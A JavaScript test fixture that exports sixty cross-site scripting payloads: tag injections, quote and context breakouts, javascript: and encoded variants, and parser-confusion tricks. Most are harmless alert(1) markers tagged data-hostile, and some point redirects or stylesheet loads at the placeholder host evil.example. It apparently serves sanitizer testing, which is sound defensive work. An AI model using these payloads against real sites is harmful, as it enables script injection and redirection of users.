// Sixty ways to smuggle a script into a page. Each that becomes part of a page has an attribute by which it is found, calls alert, or both.

const TAGS = [
  "<script data-hostile>alert(1)</script>",
  "<img src=x data-hostile onerror=alert(1)>",
  "<svg data-hostile onload=alert(1)>",
  "<svg><script data-hostile>alert(1)</script></svg>",
  "<iframe data-hostile src=javascript:alert(1)></iframe>",
  "<iframe data-hostile srcdoc='<script>alert(1)</script>'></iframe>",
  "<body data-hostile onload=alert(1)>",
  "<input data-hostile autofocus onfocus=alert(1)>",
  "<select data-hostile autofocus onfocus=alert(1)>",
  "<details data-hostile open ontoggle=alert(1)>",
  "<video data-hostile><source onerror=alert(1)></video>",
  "<audio data-hostile src=x onerror=alert(1)>",
  "<object data-hostile data=javascript:alert(1)>",
  "<embed data-hostile src=javascript:alert(1)>",
  "<a data-hostile href=javascript:alert(1)>click</a>",
  "<form data-hostile action=javascript:alert(1)><button>go</button>",
  "<button data-hostile formaction=javascript:alert(1)>go",
  "<math><mtext data-hostile><img src=x onerror=alert(1)>",
  "<marquee data-hostile onstart=alert(1)>",
  "<meta data-hostile http-equiv=refresh content='0;url=//evil.example'>",
  "<base data-hostile href=//evil.example/>",
  "<link data-hostile rel=stylesheet href=//evil.example/x.css>",
  "<style data-hostile>@import'//evil.example/x.css'</style>",
  "<template data-hostile><script>alert(1)</script></template>",
  "<custom-x data-hostile onclick=alert(1) tabindex=1>x",
];
const BREAKS = [
  '"><img src=x data-hostile onerror=alert(1)>',
  "'><img src=x data-hostile onerror=alert(1)>",
  '" data-hostile onmouseover=alert(1) x="',
  "' data-hostile onfocus=alert(1) autofocus x='",
  "`data-hostile onmouseover=alert(1)`",
  "</title><script data-hostile>alert(1)</script>",
  "</textarea><script data-hostile>alert(1)</script>",
  "</script><script data-hostile>alert(1)</script>",
  "</style><script data-hostile>alert(1)</script>",
  "--><img src=x data-hostile onerror=alert(1)>",
  "]]><img src=x data-hostile onerror=alert(1)>",
  "</noscript><img src=x data-hostile onerror=alert(1)>",
  '<!--<img src="--><img src=x data-hostile onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x data-hostile onerror=alert(1)>">',
];
const WORDS = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java&Tab;script:alert(1)",
  "data:text/html,<script data-hostile>alert(1)</script>",
  "vbscript:msgbox(1)",
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "';alert(1);//",
  '\\";alert(1);//',
  "\\u003cimg src=x data-hostile onerror=alert(1)\\u003e",
  "&lt;img src=x data-hostile onerror=alert(1)&gt;",
  "&#60;img src=x data-hostile onerror=alert(1)&#62;",
  "%3Cimg%20src%3Dx%20data-hostile%20onerror%3Dalert(1)%3E",
  "\u{ff1c}img src=x data-hostile onerror=alert(1)\u{ff1e}",
];
const ODD = [
  "<ScRiPt data-hostile>alert(1)</sCrIpT>",
  "<scr<script>ipt data-hostile>alert(1)</scr</script>ipt>",
  "<img/src=x/data-hostile/onerror=alert(1)>",
  "<img src=x data-hostile onerror=\u{a0}alert(1)>",
  "<<img src=x data-hostile onerror=alert(1)>>",
  "<svg/data-hostile/onload=alert`1`>",
  '[x](javascript:alert(1)) ![x](x"onerror="alert(1))',
];

export const PAYLOADS = [...TAGS, ...BREAKS, ...WORDS, ...ODD];

/** In pieces, so that one that opens a comment does not hide the others. */
export const pieces = (size) =>
  Array.from({ length: Math.ceil(PAYLOADS.length / size) }, (_, index) =>
    PAYLOADS.slice(index * size, (index + 1) * size).join("\n"),
  );
